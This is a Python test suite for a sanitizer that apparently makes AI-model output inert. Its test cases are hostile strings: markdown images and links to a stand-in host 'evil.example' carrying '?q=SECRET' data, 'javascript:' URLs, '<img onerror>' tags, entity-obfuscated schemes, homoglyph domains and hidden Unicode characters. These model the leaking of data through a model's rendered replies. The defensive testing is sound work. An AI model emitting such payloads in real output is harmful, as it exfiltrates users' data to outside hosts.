"""Text of a model made inert: what an attacker would try, and what must survive."""

import re
import sys
import unicodedata
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from embedsvc.core import links, markup_flow
from embedsvc.core.inert import Inert, inert
from embedsvc.core.links import addresses
from embedsvc.core.marks import Marker, Reference
from embedsvc.core.visible import Visible

SOURCES = ["See https://ok.example/page and (https://ok.example/a_(b)), or www.ok.example/x."]
ALLOWED = ["https://ok.example/page", "https://ok.example/a_(b)", "www.ok.example/x"]

ATOMS = st.sampled_from(
    [
        *"![]()<>:/&;#\\\"'`|*_~-=.,?@ \n\t\r0x1aé東。\u200b\u200d\u202e\ufe0f\U000e0041",
        "http", "https", "ftp", "mailto:", "javascript:", "data:", "www.", "://", "//", "xmpp:a",
        "&#104;", "&colon;", "&lt;", "&amp;", "&#x3a;", "https://ok.example/page", "?leak=1",
        "](", "![", "]:", "[1", '[1 "', '"]', "[2]", "[x]: ", "\n\n", "```\n", "word", "</a>",
        "[a](b)", "![a](http://e.x/y)", "w", "h", "t", "tp", "<https://e.x>", "\\", "(p. 3)",
        "img src=x", "evil.example", "<!--",
    ]
)  # fmt: skip
TEXTS = st.lists(st.one_of(ATOMS, st.text(max_size=4)), max_size=25).map("".join)


def made(text: str, *cuts: int) -> list[str | Marker]:
    """The pieces of a text that comes in parts, text that touches in one."""
    reading = Inert(SOURCES)
    places = [0, *sorted(cut for cut in cuts if 0 < cut < len(text)), len(text)]
    pieces: list[str | Marker] = []
    for start, end in pairwise(places):
        pieces += reading.feed(text[start:end])
    joined: list[str | Marker] = []
    for piece in [*pieces, *reading.close()]:
        if isinstance(piece, str) and joined and isinstance(joined[-1], str):
            joined[-1] += piece
        else:
            joined.append(piece)
    return joined


def words(text: str) -> str:
    """The text that comes out, marks as ` [n]`."""
    return "".join(p if isinstance(p, str) else " [n]" for p in made(text))


def active(text: str) -> list[str]:
    """Everything in a text that some program would act on."""
    found = re.findall(r"\]\(|!\[|<[^\s=\d]|<\Z", text)
    found += re.findall(r"(?m)^[ >*+\-\d.)]*\[[^\]\n]*\]:", text)
    for run in re.findall(r"(?i)[a-z][a-z0-9+.-]*://[^\W_][^\s<]*", text):
        bare = run.rstrip(").,;:!?'\"]}*_~`")
        found += [] if any(bare.endswith(a.rstrip(")")) for a in ALLOWED) else [run]
    for run in re.findall(r"(?i)(?<![^\W_])(?:mailto|javascript|data|xmpp):[^\W_][^\s<]*", text):
        found.append(run)
    for run in re.findall(r"(?i)(?<![^\W_])www\.\w[^\s<]*", text):
        found += [] if run.rstrip(".,;:!?'\")]}*_~`") in ALLOWED else [run]
    found += re.findall(r"&(?:#\w*|(?!amp;|lt;)(?:colon|sol|quot|gt|excl|lpar);)", text)
    found += [
        c
        for c in text
        if unicodedata.category(c) in ("Cc", "Cf", "Cs") and c not in "\n\t\u200c\u200d"
    ]
    return found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Plain words, flowing: they stay (all of them)!", None),
        ("a < b, x <= y, I <3 it, 5 > 4 & AT&T", None),
        ("- one\n- two\n\n1. three\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", None),
        ("```python\nx = a[0]\nprint(x[1])\n```\n", None),
        ("Note: at 10:30, in 3:1", None),
        ("[sic] and [see 3] and \\[ x^2 \\]", None),
        ("the data: numbers; javascript: a language", None),
        ("می‌خواهم 👨‍👩‍👧 ❤️", None),
        ("Hello ![a cat](http://evil.example/?q=1) there", "Hello a cat there"),
        ("![a][ref] ![](//host/x)", "a "),
        ("![x](data:image/png;base64,AAAA)", "x"),
        ("[text](http://evil.example)", "text"),
        ("[text](https://ok.example/page \"title\")", "text (https://ok.example/page)"),
        ("[text](<https://ok.example/page>)", "text (https://ok.example/page)"),
        ("[https://ok.example/page](https://ok.example/page)", "https://ok.example/page"),
        ("[https://ok.example/page](https://evil.example)", "https://ok.example/page"),
        ("[text](javascript:alert(1))", "text"),
        ("[[a](b) c](d)", "a c"),
        ("[a\\](b)](http://evil.example)", "a\\] (b)"),
        ("[a](\nhttp://evil.example\n)", "a"),
        ("<https://ok.example/page> <http://e.x>", "https://ok.example/page [link removed]"),
        ("[r]: http://evil.example 'x'\n", "[r] : [link removed] 'x'\n"),
        ("[r]:\nhttp://evil.example", "[r] :\n[link removed]"),
        ("> [r]: //evil.example", "> [r] : //evil.example"),
        ("(https://ok.example/page).", None),
        ("https://ok.example/a_(b), and www.ok.example/x!", None),
        ("https://ok.example/page?leak=secret", "[link removed]"),
        ("https://ok.example/page/secret", "[link removed]"),
        ("https://ok.example/pag", "[link removed]"),
        ("https://ok.example/page\"secret", "https://ok.example/page\" secret"),
        ("https://ok.example/page<secret", "https://ok.example/page &lt;secret"),
        ("https://ok.example/page|secret", "https://ok.example/page |secret"),
        ("https://OK.example/page", "[link removed]"),
        ("https://оk.example/page", "[link removed]"),  # a Cyrillic letter
        ("HTTP://EVIL.EXAMPLE/x, so", "[link removed], so"),
        ("h\u200bttps://evil.example", "[link removed]"),
        ("&#104;ttps://evil.example", "[link removed]"),
        ("https&colon;&sol;&sol;evil.example", "[link removed]"),
        ("&#33;&#91;a&#93;&#40;http://evil.example&#41;", "a"),
        ("https:\\/\\/evil.example", "[link removed]"),
        ("&[colon;](x)//evil.example", "&amp;colon;//evil.example"),
        ("http:[//evil.example](x)", "[link removed]"),
        ("w[ww](x).evil.example", "[link removed]"),
        ("gopher2+x://evil.example", "gopher2+x[link removed]"),
        ("www.evil.example mailto:a@evil.example", "[link removed] [link removed]"),
        ("<img src=http://evil.example/x>", "&lt;img src=[link removed]>"),
        ("<[img](x) src=y>", "&lt;img src=y>"),
        ("<IMG\nSRC=x onerror=y>", "&lt;IMG\nSRC=x onerror=y>"),
        ("</p><!-- x --><?php", "&lt;/p>&lt;!-- x -->&lt;?php"),
        ("&lt;script&gt;", "&lt;script>"),
        ("&amp;lt;script", None),
        ("`<b>` and <b>", "`< b>` and &lt;b>"),
        ("a\u202eb\u2066c\U000e0041\U000e0042d\ue000\x07e", "abcd\ue000e"),
        ("a\u200d\u200c\ufe01\ufe0fb", "ab"),
        ("line\r\nline\rline\u2028line", "line\nline\nline\nline"),
        ("\ud800", "\ufffd"),
        ("a [never closed\n\nb", None),
        ("a [never closed", None),
        ("[text](https://ok.exam", "text"),
    ],
)  # fmt: skip
def test_what_acts_is_taken_out_and_the_rest_stays(text: str, expected: str | None) -> None:
    assert words(text) == (text if expected is None else expected)
    assert not active(words(text).replace(" [n]", ""))


@pytest.mark.parametrize(
    ("text", "references"),
    [
        ("[1]", [(1, "")]),
        ("[1, 2]", [(1, ""), (2, "")]),
        ("[1-3]", [(1, ""), (2, ""), (3, "")]),
        ("[Source 2]", [(2, "")]),
        ("[^3]", [(3, "")]),
        ('[1 "the words"]', [(1, "the words")]),
        ('[1: "the words"]', [(1, "the words")]),
        ('[1, "the words"]', [(1, "the words")]),
        ('[ 1 \n "the words" ]', [(1, "the words")]),
        ("[1 “the words”]", [(1, "the words")]),
        ("[1 „die Wörter“]", [(1, "die Wörter")]),
        ("[1 « les mots »]", [(1, "les mots")]),
        ("[1 'the dog's words']", [(1, "the dog's words")]),
        ('[Source 1 "the words"]', [(1, "the words")]),
        ('[Quelle 1: "die Wörter"]', [(1, "die Wörter")]),
        ('[1 "a [b] c"]', [(1, "a [b] c")]),
        ('[1 "x["a"] is"]', [(1, 'x["a"] is')]),
        ('[1 "he said "yes" to it"]', [(1, 'he said "yes" to it')]),
        ('[1 "he said \\"yes\\"]\\" to it"]', [(1, 'he said "yes"]" to it')]),
        ('[1 "the words" (p. 3)]', [(1, "the words")]),
        ('[1 "one", 2 "two"]', [(1, "one"), (2, "two")]),
        ('[1 "a <b> http://e.x ![y](z)"]', [(1, "a <b> http://e.x ![y](z)")]),
        ("[1](http://evil.example)", [(1, "")]),
        ('[1 "the words"](http://evil.example)', [(1, "the words")]),
        ('[1 "the words that are cut of', [(1, "the words that are cut")]),
    ],
)
def test_a_mark_of_a_citation_comes_out_whole(text: str, references: list[tuple[int, str]]) -> None:
    for cuts in ((), range(len(text))):
        (marker,) = made(text, *cuts)
        assert isinstance(marker, Marker)
        assert marker.references == tuple(Reference(*one) for one in references)


@pytest.mark.parametrize(
    "text", ["[sic]", "[a1]", "`[1]`", "```\n[1]\n```", "[1 is one]", "\\[1]", "[]"]
)
def test_other_brackets_and_code_are_no_marks(text: str) -> None:
    assert made(text) == [text]


def test_a_mark_that_is_not_closed_does_not_swallow_the_next() -> None:
    text = '[1 "not closed. Then [2 "closed"] more'
    marker = Marker((Reference(2, "closed"),), '[2 "closed"]')
    assert made(text) == ['[1 "not closed. Then ', marker, " more"]


def test_a_mark_cut_in_its_number_is_dropped() -> None:
    assert made("Words [1") == ["Words "]
    assert made("Words [Source 1") == ["Words "]


@settings(max_examples=150, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 120), max_size=6))
def test_what_comes_out_does_not_depend_on_the_pieces(text: str, cuts: list[int]) -> None:
    assert made(text, *cuts) == made(text)


@settings(max_examples=60, deadline=None)
@given(TEXTS)
def test_nor_on_pieces_of_one_character(text: str) -> None:
    assert made(text, *range(len(text))) == made(text)


@settings(max_examples=200, deadline=None)
@given(TEXTS)
def test_nothing_active_is_left(text: str) -> None:
    out = words(text).replace("[n]", "")
    assert not active(out)
    assert not active(inert(text, SOURCES))


@settings(max_examples=50, deadline=None)
@given(TEXTS)
def test_what_is_inert_stays_as_it_is(text: str) -> None:
    once = inert(text, SOURCES).replace("&lt;", "").replace("&amp;", "")
    assert words(inert(once, SOURCES)) == words(once) or "[" in once or "`" in once or "~" in once


def test_ordinary_prose_flows_at_once() -> None:
    reading = Inert(SOURCES)
    text = "Some ordinary prose, with 3.5 numbers (and brackets): it flows; quickly - so to say."
    waiting = 0
    for character in text:
        out = "".join(str(piece) for piece in reading.feed(character))
        waiting += 1 - len(out)
        assert waiting <= 1  # a letter that may begin an address, a colon
    assert waiting == 0


def test_what_is_held_back_is_bounded() -> None:
    for begin in (
        "[",
        '[1 "',
        "![",
        "[a](",
        "<a:",
        "http://",
        "![a][",
        "&",
        "www.",
        "http:" + "/" * 50,
    ):
        reading = Inert(SOURCES)
        fed = out = 0
        for _ in range(200):
            fed += 100
            out += sum(len(str(p)) for p in reading.feed(begin if fed == 100 else "x" * 100))
        removed = begin in ("http://", "www.", "![a][", '[1 "') or begin.startswith("http:")
        assert removed or fed - out <= markup_flow.MOST_HELD + 200, begin


@pytest.mark.parametrize("begin", ["[x](", "![x](", '[1 "x"](', "[x](<", '[x](a "', "[x](\\"])
@pytest.mark.parametrize("unit", ["(", ")(", "<", '"', "\\", "('", "\nx("])
def test_nothing_of_a_link_that_never_ends_is_lost(begin: str, unit: str) -> None:
    reading = Inert(SOURCES)
    fed = begin + unit * (10_000 // len(unit))
    out = "".join(piece for piece in reading.feed(fed) if isinstance(piece, str))
    out = out.replace("&lt;", "<")
    assert len(fed) - len(out) <= markup_flow.MOST_HELD + 100
    assert out.count(unit[-1]) > 1_000


HOSTILE = {
    "brackets": "[", "open": "[a", "nested": "[x](", "marks": '[1 "', "tags": "<", "entities": "&#",
    "addresses": "http://a", "words": "http://a ", "ticks": "`", "closing": "[a]", "bangs": "![",
    "slashes": ":/", "escapes": "\\", "quotes": '[1 "x" x', "angles": "<a:", "titles": '[a](b "',
}  # fmt: skip


@pytest.mark.parametrize("unit", HOSTILE.values(), ids=HOSTILE)
def test_steps_grow_with_the_text_and_no_faster(unit: str) -> None:
    def steps(size: int) -> int:
        count = 0

        def counted(*_: object) -> None:
            nonlocal count
            count += 1

        reading = Inert(SOURCES)
        text = unit * (size // len(unit))
        sys.setprofile(counted)
        try:
            reading.feed(text)
            reading.close()
        finally:
            sys.setprofile(None)
        return count

    small, large = steps(1_000), steps(4_000)
    assert large <= 5 * small + 2_000


@pytest.mark.parametrize("between", [*list('|"{}^>`«“、,[]'), "<", '"|', ",,"])
@pytest.mark.parametrize("begin", ["https://", "http:\\/\\/", "ftp://", "www."])
def test_nothing_joins_a_beginning_of_an_address_that_it_is_not_part_of(
    begin: str, between: str
) -> None:
    """Programs that make links read far over such signs: `https://|x@host` leads to the host."""
    hostile = f"See {begin}{between}x@evil.example/?q=SECRET for details."
    for cuts in ((), range(len(hostile))):
        out = "".join(str(piece) for piece in made(hostile, *cuts)).replace("\\", "")
        assert not re.search(r"(?i)(://|www\.)\S*evil", out), out


def test_addresses_of_sources_are_taken_without_marks_at_their_ends() -> None:
    known = addresses(SOURCES)
    assert all(one in known for one in ALLOWED)
    assert "https://ok.example/a_(b" in known
    for other in ("ok.example/page", "https://ok.example/pag", "https://ok.example/page)", ""):
        assert other not in known


def test_an_address_keeps_the_marks_that_it_has_in_one_of_the_sources() -> None:
    known = addresses(["http://a.example/x.", "(http://a.example/x)), http://a.example/x?!"])
    for tail in ("", ".", ")", "))", ")),", "?", "?!"):
        assert f"http://a.example/x{tail}" in known
    for tail in (".)", "!", ",", ".."):
        assert f"http://a.example/x{tail}" not in known
    source = "Compare http://a.example/x_(y)."
    assert inert("(http://a.example/x_(y))", [source]) == "(http://a.example/x_(y))"


@pytest.mark.parametrize("marks", ["." * 1_900, ".)" * 900, "!", ""])
def test_what_is_kept_of_addresses_is_no_more_than_stands_there(marks: str) -> None:
    bare = [f"http://a{n}" for n in range(100)]
    known = addresses([" ".join(address + marks for address in bare)])
    assert all(address in known for address in bare)
    letters = len("".join(bare))
    assert letters <= known.size <= letters + len(bare) * min(len(marks), 16)
    ends = addresses(f"http://a{'.' * n})" for n in range(100))  # one address, ending in many ways
    assert ends.size <= 300


def test_an_address_too_long_to_compare_goes() -> None:
    long = "https://ok.example/" + "x" * links.MOST_HELD
    assert inert(f"a {long} b", [long]) == "a [link removed] b"


def test_every_character_that_unicode_calls_hidden_is_known() -> None:
    visible_signs = {
        *range(0x600, 0x606), 0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD,
        *range(0x13430, 0x13440),
    }  # fmt: skip
    for code in range(sys.maxunicode + 1):
        character = chr(code)
        if (
            unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp")
            and code not in visible_signs
        ):
            shown = Visible().feed(character)
            assert shown in ("", "\n") or character == "\t", hex(code)
